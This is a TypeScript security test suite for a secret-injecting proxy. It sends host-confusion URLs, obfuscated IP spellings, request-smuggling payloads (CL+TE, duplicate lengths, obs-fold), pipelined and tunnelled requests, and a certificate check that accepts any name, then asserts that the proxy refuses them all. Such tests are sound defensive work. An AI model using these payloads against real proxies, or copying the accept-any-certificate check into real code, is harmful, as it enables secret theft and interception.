/**
 * An attacker's probe of the placeholder proxy's routing: the child chooses every byte and wins if
 * a value reaches a host its secret does not allow. The request line, the Host header, the TLS
 * server name and the CONNECT target disagree on purpose; messages are framed ambiguously; several
 * requests share one connection. 127.0.0.1 is the allowed host, 127.0.0.2 the attacker's.
 */
import assert from 'node:assert/strict'
import {readFileSync} from 'node:fs'
import {request} from 'node:http'
import {connect} from 'node:net'
import {connect as tlsConnect} from 'node:tls'

import {createRunCa, type RunCa} from '../../../src/core/placeholders/ca.js'
import {type RunningProxy, startProxy} from '../../../src/core/placeholders/proxy.js'
import {makePlaceholder, type Stand} from '../../../src/core/placeholders/tokens.js'
import {startUpstream, type Upstream} from '../../servers/http-upstream/index.js'

const CANARY = 'confusion-canary-81f0c2'

/** A client's server-identity check that accepts any certificate name. */
const acceptAnyName = (): undefined => undefined

/** Everything the proxy answers on one raw connection (until it closes or goes quiet after `answers` responses). */
function exchange(
  socketOf: () => NodeJS.ReadWriteStream & {destroy(): void},
  bytes: string,
  answers: number,
) {
  return new Promise<string[]>((resolve) => {
    const socket = socketOf()
    let seen = ''
    const done = (): void => {
      socket.destroy()
      resolve(seen.match(/HTTP\/1\.1 \d{3}/g) ?? [])
    }

    socket.on('data', (chunk: Buffer) => {
      seen += chunk.toString('latin1')
      if ((seen.match(/HTTP\/1\.1 [2-5]\d\d/g) ?? []).length >= answers) done()
    })
    socket.on('error', () => {})
    socket.on('close', done)
    socket.write(bytes)
  })
}

describe('core/placeholders/proxy: host confusion and smuggling', () => {
  let upstream: Upstream
  let proxy: RunningProxy
  let ca: RunCa
  let stand: Stand
  const denied: string[] = []

  before(async () => {
    upstream = await startUpstream({tls: true})
    ca = await createRunCa()
    stand = {name: 'K', placeholder: makePlaceholder('K'), reference: 'local://K', value: Buffer.from(CANARY)}
    proxy = await startProxy({
      allows: (_stand, hostname) => hostname === '127.0.0.1',
      allowsPlainHttp: false,
      allowsPrivate: () => true,
      ca,
      maxBodyBytes: 64 * 1024,
      onDenied: (attempt) => denied.push(attempt.host),
      stands: [stand],
      trustedCas: [readFileSync(upstream.caFile!, 'utf8')],
    })
  })

  after(async () => {
    await proxy?.close()
    await upstream?.close()
  })

  afterEach(() => {
    // The attacker's host never got the value, in any request of any test.
    for (const received of upstream.requests) {
      const text = `${received.path} ${JSON.stringify(received.headers)} ${received.body.toString('latin1')}`
      if (text.includes(CANARY))
        assert.equal(received.host, '127.0.0.1', `the value reached ${received.host}`)
    }
  })

  const ph = (): string => stand.placeholder
  const plainHost = (host = '127.0.0.1'): string => new URL(upstream.url('/', {host})).host
  const secureHost = (host = '127.0.0.1'): string => new URL(upstream.url('/', {host, secure: true})).host
  const raw = (bytes: string, answers = 1): Promise<string[]> =>
    exchange(() => connect(proxy.port, '127.0.0.1'), bytes, answers)

  /** Raw bytes inside TLS intercepted for a CONNECT to `target`, with any server name. */
  function inTunnel(target: string, bytes: string, answers = 1, servername = ''): Promise<string[]> {
    return new Promise((resolve, reject) => {
      request({host: '127.0.0.1', method: 'CONNECT', path: target, port: proxy.port})
        .on('connect', (_response, socket) => {
          // The client asks for any name and accepts what it gets: the proxy's choice is under test.
          const secure = tlsConnect(
            {
              ca: ca.certificatePem,
              checkServerIdentity: acceptAnyName,
              host: '127.0.0.1',
              servername,
              socket,
            },
            () => exchange(() => secure, bytes, answers).then(resolve, reject),
          )
          secure.on('error', reject)
        })
        .on('error', reject)
        .end()
    })
  }

  it('plain HTTP: the absolute URL decides, whatever Host says; Host goes out as the target’s', async () => {
    const answers = await raw(
      `GET http://${plainHost()}/hc-1?k=${ph()} HTTP/1.1\r\nHost: ${plainHost('127.0.0.2')}\r\nConnection: close\r\n\r\n`,
    )
    assert.deepEqual(answers, ['HTTP/1.1 200'])
    const received = upstream.last('/hc-1')
    assert.equal(received.host, '127.0.0.1')
    assert.equal(received.headers.host, plainHost())
    // And the other way round: an allowed Host header does not carry the value to another URL.
    assert.deepEqual(
      await raw(
        `GET http://${plainHost('127.0.0.2')}/hc-2?k=${ph()} HTTP/1.1\r\nHost: ${plainHost()}\r\nConnection: close\r\n\r\n`,
      ),
      ['HTTP/1.1 403'],
    )
  })

  it('plain HTTP: spellings of the attacker’s host are refused, spellings of the allowed one reach only it', async () => {
    const other = plainHost('127.0.0.2')
    const port = other.split(':')[1]!
    for (const url of [
      `http://${plainHost()}@${other}/hc-s1`,
      `http://${other}#@${plainHost()}/hc-s2`,
      `http://0x7f.0.0.2:${port}/hc-s3`,
      `http://2130706434:${port}/hc-s4`,
      `http://0177.0.0.02:${port}/hc-s5`,
      `http://127.0.0.2.:${port}/hc-s6`,
      `http://127%2e0.0.2:${port}/hc-s7`,
    ])
      assert.match(
        (await raw(`GET ${url}?k=${ph()} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`)).join(','),
        /^HTTP\/1\.1 40[03]$/,
        url,
      )
    const own = plainHost().split(':')[1]!
    for (const host of ['2130706433', '0x7f.1', '127.1', '127.0.0.1.', '127%2e0.0.1'])
      assert.deepEqual(
        await raw(
          `GET http://${host}:${own}/hc-own?k=${ph()} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
        ),
        ['HTTP/1.1 200'],
        host,
      )
    // A backslash is not a user part: it is refused as a malformed URL or goes to the host it names.
    assert.deepEqual(
      await raw(
        `GET http://${other}\\@${plainHost()}/hc-s8?k=${ph()} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
      ),
      ['HTTP/1.1 400'],
    )
  })

  it('ambiguous framing is refused before anything is sent (CL+TE, two lengths, obs-fold, bare LF, odd codings)', async () => {
    const smuggled = `GET http://${plainHost('127.0.0.2')}/hc-smuggled?k=${ph()} HTTP/1.1\r\nHost: x\r\n\r\n`
    const before = upstream.requests.length
    for (const bytes of [
      `POST http://${plainHost()}/hc-f1 HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${smuggled}`,
      `POST http://${plainHost()}/hc-f2 HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\nContent-Length: ${smuggled.length}\r\n\r\n${smuggled}`,
      `POST http://${plainHost()}/hc-f3 HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n${smuggled}`,
      `POST http://${plainHost()}/hc-f4 HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n0\r\n\r\n${smuggled}`,
      `GET http://${plainHost('127.0.0.2')}/hc-f5 HTTP/1.1\r\nHost: x\r\nX-A: a\r\n ${ph()}\r\n\r\n`,
      `GET http://${plainHost('127.0.0.2')}/hc-f6?k=${ph()} HTTP/1.1\nHost: x\n\n`,
    ])
      assert.deepEqual(await raw(bytes), ['HTTP/1.1 400'], JSON.stringify(bytes.slice(0, 60)))
    assert.equal(upstream.requests.length, before, 'nothing was sent')
  })

  it('pipelined requests are judged one by one: the second, for another host, is refused', async () => {
    const answers = await raw(
      `GET http://${plainHost()}/hc-p1 HTTP/1.1\r\nHost: x\r\n\r\n` +
        `GET http://${plainHost('127.0.0.2')}/hc-p2?k=${ph()} HTTP/1.1\r\nHost: x\r\n\r\n` +
        `POST http://${plainHost('127.0.0.2')}/hc-p3 HTTP/1.1\r\nHost: x\r\nContent-Length: ${ph().length}\r\nConnection: close\r\n\r\n${ph()}`,
      3,
    )
    assert.deepEqual(answers, ['HTTP/1.1 200', 'HTTP/1.1 403', 'HTTP/1.1 403'])
  })

  it('a placeholder in a chunk extension or a trailer is never sent (as value or at all); one split across chunks is joined', async () => {
    const other = plainHost('127.0.0.2')
    assert.deepEqual(
      await raw(
        `POST http://${other}/hc-c1 HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n1;k=${ph()}\r\na\r\n0\r\nX-T: ${ph()}\r\n\r\n`,
      ),
      ['HTTP/1.1 200'],
    )
    const received = upstream.last('/hc-c1')
    assert.ok(!JSON.stringify(received).includes(ph()), 'the extension and trailer stayed with the proxy')
    const half = ph().length >> 1
    assert.deepEqual(
      await raw(
        `POST http://${plainHost()}/hc-c2 HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n` +
          `${half.toString(16)}\r\n${ph().slice(0, half)}\r\n${(ph().length - half).toString(16)}\r\n${ph().slice(half)}\r\n0\r\n\r\n`,
      ),
      ['HTTP/1.1 200'],
    )
    assert.equal(upstream.last('/hc-c2').body.toString(), CANARY)
    // Split into two chunks on the way to the attacker: found whole, refused.
    assert.deepEqual(
      await raw(
        `POST http://${other}/hc-c3 HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n` +
          `${half.toString(16)}\r\n${ph().slice(0, half)}\r\n${(ph().length - half).toString(16)}\r\n${ph().slice(half)}\r\n0\r\n\r\n`,
      ),
      ['HTTP/1.1 403'],
    )
  })

  it('HTTP/1.0 and Expect: 100-continue to the attacker are refused like any request', async () => {
    const other = plainHost('127.0.0.2')
    assert.deepEqual(await raw(`GET http://${other}/hc-e1?k=${ph()} HTTP/1.0\r\n\r\n`), ['HTTP/1.1 403'])
    assert.deepEqual(
      await raw(
        `POST http://${other}/hc-e2 HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\nContent-Length: ${ph().length}\r\nConnection: close\r\n\r\n${ph()}`,
        2,
      ),
      ['HTTP/1.1 100', 'HTTP/1.1 403'],
    )
  })

  it('inside a tunnel, the CONNECT target decides: another Host header or server name changes nothing', async () => {
    const target = secureHost()
    for (const [path, servername] of [
      ['/hc-t1', ''],
      ['/hc-t2', 'evil.example'],
    ] as const) {
      assert.deepEqual(
        await inTunnel(
          target,
          `GET ${path}?k=${ph()} HTTP/1.1\r\nHost: ${secureHost('127.0.0.2')}\r\nConnection: close\r\n\r\n`,
          1,
          servername,
        ),
        ['HTTP/1.1 200'],
      )
      const received = upstream.last(path)
      assert.equal(received.host, '127.0.0.1')
      assert.equal(received.headers.host, target)
    }
  })

  it('inside a tunnel, a kept-alive connection’s next request cannot name another host', async () => {
    const before = upstream.requests.length
    const answers = await inTunnel(
      secureHost(),
      `GET /hc-k1 HTTP/1.1\r\nHost: x\r\n\r\n` +
        `GET https://${secureHost('127.0.0.2')}/hc-k2?k=${ph()} HTTP/1.1\r\nHost: x\r\n\r\n`,
      2,
    )
    assert.deepEqual(answers, ['HTTP/1.1 200', 'HTTP/1.1 400'])
    assert.equal(upstream.requests.length, before + 1)
    // A second CONNECT inside the tunnel is no way out either.
    assert.deepEqual(
      await inTunnel(secureHost(), `CONNECT ${secureHost('127.0.0.2')} HTTP/1.1\r\nHost: x\r\n\r\n`),
      [],
    )
  })

  it('a tunnel to a host no secret allows carries the placeholder only, never the value', async () => {
    const other = secureHost('127.0.0.2')
    const answer = await new Promise<string>((resolve, reject) => {
      request({host: '127.0.0.1', method: 'CONNECT', path: other, port: proxy.port})
        .on('connect', (_response, socket) => {
          // The upstream's own certificate (not the run's CA): the tunnel is not intercepted.
          const secure = tlsConnect(
            {ca: readFileSync(upstream.caFile!, 'utf8'), host: '127.0.0.2', servername: '', socket},
            () =>
              exchange(
                () => secure,
                `GET /hc-u?k=${ph()} HTTP/1.1\r\nHost: ${other}\r\nConnection: close\r\n\r\n`,
                1,
              ).then((all) => resolve(all.join(',')), reject),
          )
          secure.on('error', reject)
        })
        .on('error', reject)
        .end()
    })
    assert.equal(answer, 'HTTP/1.1 200')
    assert.equal(new URL(upstream.last('/hc-u').path, 'https://x').searchParams.get('k'), ph())
  })

  it('HTTP/2: an h2-only client fails the handshake; an h2 preface over the http/1.1 it got is a 400', async () => {
    const before = upstream.requests.length
    const outcomes: string[] = []
    for (const ALPNProtocols of [['h2'], ['h2', 'http/1.1']])
      outcomes.push(
        await new Promise<string>((resolve, reject) => {
          request({host: '127.0.0.1', method: 'CONNECT', path: secureHost(), port: proxy.port})
            .on('connect', (_response, socket) => {
              const secure = tlsConnect(
                {ALPNProtocols, ca: ca.certificatePem, host: '127.0.0.1', servername: '', socket},
                () =>
                  exchange(() => secure, `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${ph()}`, 1).then(
                    (answers) => resolve(`${secure.alpnProtocol} ${answers.join(',')}`),
                    reject,
                  ),
              )
              secure.once('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? 'error'))
            })
            .on('error', reject)
            .end()
        }),
      )
    // (A Node that let an unmatched ALPN through would answer the preface with a 400 as well.)
    assert.match(outcomes[0]!, /^(ERR_SSL_TLSV1_ALERT_NO_APPLICATION_PROTOCOL|false HTTP\/1\.1 400)$/)
    assert.equal(outcomes[1], 'http/1.1 HTTP/1.1 400')
    assert.equal(upstream.requests.length, before)
  })
})
